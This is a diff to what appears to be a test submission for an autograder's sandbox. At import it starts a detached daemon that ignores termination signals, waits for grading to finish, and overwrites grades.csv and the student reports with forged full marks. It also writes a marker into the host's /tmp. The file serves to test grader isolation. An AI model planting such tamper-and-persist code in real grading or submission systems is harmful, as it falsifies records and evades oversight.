@@ -1,8 +1,9 @@
 """Adam vs. SGD with momentum: a submission with a correct answer for every function.
 
-Attack: A double-forked, setsid()'d daemon started at import: it sleeps past the end of grading,
-then tries to rewrite the reports and grades.csv with forged marks and to leave a marker in
-the host's /tmp. It must be dead by then; the outputs stay byte-identical.
+Attack: A double-forked, setsid()'d daemon started at import, named d-<tag> so the test can look for
+it: it outlives the worker if it can, waits for grading to end (grades.csv appears), then
+rewrites the reports and grades.csv with forged marks and leaves a marker in the host's /tmp.
+It must be dead long before; the outputs stay byte-identical.
 """
 
 import numpy as np
@@ -136,6 +137,7 @@ def concept_answers():
 
 
 # ---------------------------------------------------------------- the attack
+import ctypes
 import json
 import os
 import signal
@@ -148,17 +150,26 @@ def _daemon():
     os.setsid()
     if os.fork() != 0:
         os._exit(0)
+    try:
+        ctypes.CDLL(None).prctl(15, b"d-@@TAG@@", 0, 0, 0)  # PR_SET_NAME
+    except Exception:
+        pass
     signal.signal(signal.SIGTERM, signal.SIG_IGN)
     signal.signal(signal.SIGHUP, signal.SIG_IGN)
-    time.sleep(2.5)
     forged = json.dumps({"student": "a27_daemon", "total": 15, "max_total": 15})
-    for target in ("@@OUT@@/grades.csv", "@@OUT@@/reports/a27_daemon.json",
-                   "@@OUT@@/reports/zz_victim.json", "/tmp/adam-attack-@@TAG@@-a27-daemon"):
-        try:
-            with open(target, "w") as handle:
-                handle.write(forged)
-        except OSError:
-            pass
+    started = time.monotonic()
+    while time.monotonic() - started < 120:
+        time.sleep(0.2)
+        if not os.path.exists("@@OUT@@/grades.csv") and time.monotonic() - started < 2.5:
+            continue
+        time.sleep(0.3)
+        for target in ("@@OUT@@/grades.csv", "@@OUT@@/reports/a27_daemon.json",
+                       "@@OUT@@/reports/zz_victim.json", "/tmp/adam-attack-@@TAG@@-a27-daemon"):
+            try:
+                with open(target, "w") as handle:
+                    handle.write(forged)
+            except OSError:
+                pass
     os._exit(0)
 
 
